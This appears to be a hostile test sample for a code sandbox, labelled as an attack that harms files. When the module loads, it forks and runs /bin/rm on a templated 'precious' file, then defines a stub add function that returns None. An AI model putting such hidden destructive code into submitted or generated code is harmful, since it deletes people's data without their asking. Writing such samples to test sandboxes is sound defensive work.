# attack: harm files through the C helper of subprocess
# damage: files
import os

if os.fork() == 0:
    os.execv("/bin/rm", ["rm", "{DIR}/precious"])
os.wait()


def add(a, b):
    return None
